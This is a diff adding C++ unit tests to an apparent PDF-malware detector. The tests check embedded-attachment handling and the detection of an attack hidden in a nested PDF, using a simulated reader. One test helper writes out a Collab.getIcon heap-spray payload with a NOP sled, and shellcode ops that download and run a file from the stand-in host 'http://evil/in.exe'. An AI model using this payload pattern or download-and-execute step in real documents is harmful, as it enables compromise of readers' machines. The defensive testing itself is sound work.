@@ -1,0 +1,207 @@
+// Tests for embedded-PDF handling (§VI future work, implemented):
+// attachment plumbing, the reader opening PDF attachments launched via
+// exportDataObject, recursive front-end instrumentation, and end-to-end
+// detection of an attack hidden entirely inside an attachment.
+#include <gtest/gtest.h>
+
+#include "core/detector.hpp"
+#include "core/jschain.hpp"
+#include "core/pipeline.hpp"
+#include "corpus/builders.hpp"
+#include "corpus/generator.hpp"
+#include "pdf/parser.hpp"
+#include "reader/reader_sim.hpp"
+#include "reader/shellcode.hpp"
+#include "sys/kernel.hpp"
+
+namespace co = pdfshield::core;
+namespace cp = pdfshield::corpus;
+namespace pd = pdfshield::pdf;
+namespace rd = pdfshield::reader;
+namespace sy = pdfshield::sys;
+namespace sp = pdfshield::support;
+
+namespace {
+
+sp::Bytes inner_malicious_pdf(sp::Rng& rng) {
+  rd::ShellcodeProgram prog;
+  prog.ops.push_back({"DROP", {"http://evil/in.exe", "c:/in.exe"}});
+  prog.ops.push_back({"EXEC", {"c:/in.exe"}});
+  cp::DocumentBuilder inner(rng);
+  inner.add_blank_page();
+  inner.set_open_action_js(
+      "var unit = unescape('%u9090%u9090') + '" +
+      rd::encode_shellcode(prog) + "';"
+      "var spray = unit; while (spray.length < 2097152) spray += spray;"
+      "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
+  return inner.build();
+}
+
+sp::Bytes host_with_attachment(sp::Rng& rng, const sp::Bytes& attachment,
+                               bool launch = true) {
+  cp::DocumentBuilder host(rng);
+  host.add_pages(3, 500);
+  host.add_embedded_file("update.pdf", attachment);
+  if (launch) {
+    host.set_open_action_js(
+        "this.exportDataObject({cName: 'update.pdf', nLaunch: 2});");
+  }
+  return host.build();
+}
+
+}  // namespace
+
+TEST(Embedded, BuilderCreatesEmbeddedFilesTree) {
+  sp::Rng rng(1);
+  const sp::Bytes host = host_with_attachment(rng, sp::to_bytes("%PDF-1.4 inner"));
+  pd::Document doc = pd::parse_document(host);
+  const pd::Object* cat = doc.catalog();
+  ASSERT_NE(cat, nullptr);
+  const pd::Object* names = doc.resolved_find(cat->dict_or_stream_dict(), "Names");
+  ASSERT_NE(names, nullptr);
+  const pd::Object* ef = doc.resolved_find(names->as_dict(), "EmbeddedFiles");
+  ASSERT_NE(ef, nullptr);
+}
+
+TEST(Embedded, ReaderOpensPdfAttachmentOnLaunch) {
+  sy::Kernel kernel;
+  rd::ReaderSim reader(kernel);
+  sp::Rng rng(2);
+  const sp::Bytes host = host_with_attachment(rng, inner_malicious_pdf(rng));
+  auto r = reader.open_document(host, "host.pdf");
+  EXPECT_TRUE(r.js_ran);
+  // The inner document opened and exploited: the dropped file exists.
+  EXPECT_TRUE(kernel.fs().exists("c:/in.exe"));
+  EXPECT_EQ(reader.open_count(), 2u);  // host + embedded
+}
+
+TEST(Embedded, NonPdfAttachmentLaunchesProcessInstead) {
+  sy::Kernel kernel;
+  rd::ReaderSim reader(kernel);
+  sp::Rng rng(3);
+  const sp::Bytes host = host_with_attachment(rng, sp::to_bytes("MZ binary"));
+  reader.open_document(host, "host.pdf");
+  bool spawned = false;
+  for (const auto& [pid, proc] : kernel.processes()) {
+    if (proc->image() == "c:/temp/update.pdf") spawned = true;
+  }
+  EXPECT_TRUE(spawned);
+}
+
+TEST(Embedded, UnlaunchedAttachmentStaysClosed) {
+  sy::Kernel kernel;
+  rd::ReaderSim reader(kernel);
+  sp::Rng rng(4);
+  const sp::Bytes host =
+      host_with_attachment(rng, inner_malicious_pdf(rng), /*launch=*/false);
+  reader.open_document(host, "host.pdf");
+  EXPECT_EQ(reader.open_count(), 1u);
+  EXPECT_FALSE(kernel.fs().exists("c:/in.exe"));
+}
+
+TEST(Embedded, FrontEndInstrumentsEmbeddedPdf) {
+  sp::Rng rng(5);
+  const sp::Bytes host = host_with_attachment(rng, inner_malicious_pdf(rng));
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
+  co::FrontEndResult r = frontend.process(host);
+  ASSERT_TRUE(r.ok);
+  ASSERT_EQ(r.embedded.size(), 1u);
+  EXPECT_EQ(r.embedded[0].record.entries.size(), 1u);
+  // Host and embedded get distinct keys.
+  EXPECT_NE(r.embedded[0].record.key.document_key,
+            r.record.key.document_key);
+
+  // The rewritten attachment carries monitoring code.
+  pd::Document out = pd::parse_document(r.output);
+  bool found_instrumented_inner = false;
+  for (const auto& [num, obj] : out.objects()) {
+    if (!obj.is_stream()) continue;
+    const pd::Object* type = obj.as_stream().dict.find("Type");
+    if (!type || !type->is_name() || type->as_name().value != "EmbeddedFile") {
+      continue;
+    }
+    pd::Document inner = pd::parse_document(obj.as_stream().data);
+    for (const auto& site : co::analyze_js_chains(inner).sites) {
+      if (site.source.find("SOAP.request") != std::string::npos) {
+        found_instrumented_inner = true;
+      }
+    }
+  }
+  EXPECT_TRUE(found_instrumented_inner);
+}
+
+TEST(Embedded, DepthCapStopsRecursiveBombs) {
+  sp::Rng rng(6);
+  // PDF inside PDF inside PDF inside PDF.
+  sp::Bytes current = inner_malicious_pdf(rng);
+  for (int i = 0; i < 4; ++i) current = host_with_attachment(rng, current);
+  co::FrontEnd frontend(rng, co::generate_detector_id(rng));
+  co::FrontEndResult r = frontend.process(current);
+  EXPECT_TRUE(r.ok);  // must terminate and stay sane
+}
+
+TEST(Embedded, EndToEndEmbeddedAttackDetectedAndConfined) {
+  sy::Kernel kernel;
+  sp::Rng rng(7);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  cp::CorpusGenerator gen;
+  cp::Sample sample = gen.generate_embedded_attack_sample(0);
+  co::FrontEndResult fe = frontend.process(sample.data);
+  ASSERT_TRUE(fe.ok);
+  detector.register_document(fe.record.key, sample.name, fe.features);
+  for (const auto& emb : fe.embedded) {
+    detector.register_document(emb.record.key, sample.name + ":" + emb.name,
+                               emb.features);
+  }
+  reader.open_document(fe.output, sample.name);
+
+  // The embedded document's context carried the attack.
+  ASSERT_FALSE(fe.embedded.empty());
+  const co::Verdict inner_verdict = detector.verdict(fe.embedded[0].record.key);
+  EXPECT_TRUE(inner_verdict.malicious) << "score=" << inner_verdict.malscore;
+  // Confinement reached the dropped executable.
+  bool dropped_unquarantined = false;
+  for (const auto& f : kernel.fs().list()) {
+    if (f.find(".exe") != std::string::npos &&
+        !sy::VirtualFileSystem::is_quarantined(f) &&
+        f.rfind("sandbox://", 0) != 0) {
+      dropped_unquarantined = true;
+    }
+  }
+  EXPECT_FALSE(dropped_unquarantined);
+}
+
+TEST(Embedded, BenignAttachmentStaysClean) {
+  sy::Kernel kernel;
+  sp::Rng rng(8);
+  co::RuntimeDetector detector(kernel, rng);
+  co::FrontEnd frontend(rng, detector.detector_id());
+  rd::ReaderSim reader(kernel);
+  detector.attach(reader);
+
+  cp::DocumentBuilder inner(rng);
+  inner.add_pages(1, 300);
+  inner.set_open_action_js("var ok = 1 + 1;");
+  cp::DocumentBuilder host(rng);
+  host.add_pages(2, 300);
+  host.add_embedded_file("notes.pdf", inner.build());
+  host.set_open_action_js(
+      "this.exportDataObject({cName: 'notes.pdf', nLaunch: 2});");
+
+  co::FrontEndResult fe = frontend.process(host.build());
+  ASSERT_TRUE(fe.ok);
+  detector.register_document(fe.record.key, "host.pdf", fe.features);
+  for (const auto& emb : fe.embedded) {
+    detector.register_document(emb.record.key, emb.name, emb.features);
+  }
+  reader.open_document(fe.output, "host.pdf");
+  EXPECT_FALSE(detector.verdict(fe.record.key).malicious);
+  for (const auto& emb : fe.embedded) {
+    EXPECT_FALSE(detector.verdict(emb.record.key).malicious);
+  }
+  EXPECT_TRUE(detector.alerts().empty());
+}
